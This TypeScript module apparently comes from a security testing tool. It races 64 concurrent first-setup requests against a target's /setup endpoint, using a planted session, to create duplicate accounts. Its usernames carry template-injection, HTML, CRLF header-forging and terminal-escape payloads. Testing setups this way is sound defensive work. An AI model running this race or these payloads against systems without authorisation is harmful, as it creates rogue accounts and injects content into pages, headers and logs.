import { randomBytes } from "node:crypto";
import type { Attack } from "../attack.ts";
import { Skipped } from "../errors.ts";
import { isSuccess, send, sessionToPlant } from "../target.ts";

const RACERS = 64;

/** Text with a special meaning in a page, a template, a header, a log line and a terminal. */
const SPECIAL_CHARACTERS: string =
  "<b>\u0024{99991*9973}</b>{{99991*9973}}<%= 99991*9973 %>\"'\r\nX-Forged: yes\u001b[31m";

export const setupRace: Attack = {
  name: "setup-race",
  about: `${RACERS} first setups at the same moment`,
  meaning: "A client that sends its setup at the same moment as you gets a second account.",
  noun: "setups",
  verb: "created an account",
  needs: ["fresh"],

  async run(target, tally) {
    if (target.state === "configured") throw new Skipped("an account already exists");
    const password = randomBytes(12).toString("hex");
    const racers = Array.from({ length: RACERS }, (_, at) => `attack ${at} ${SPECIAL_CHARACTERS}`);
    const token = target.access?.setupToken ?? "";
    const planted = await sessionToPlant(target);
    const responses = await Promise.all(
      racers.map(async (username) => {
        tally.tried();
        const form = { username, password, confirm: password, token };
        const response = await send(target, { path: "/setup", form, session: planted });
        return { username, response };
      }),
    );
    const winners = responses.filter(({ response }) => isSuccess(response));
    for (const { username, response } of winners) {
      const { session: token, cookies } = response;
      if (token !== undefined) target.account ??= { username, password, token, cookies, planted };
    }
    if (winners.length > 1) tally.gotThrough(`${winners.length} accounts were created`);
    if (winners.length === 0)
      throw new Skipped("no setup was accepted; it may require a setup token");
  },
};
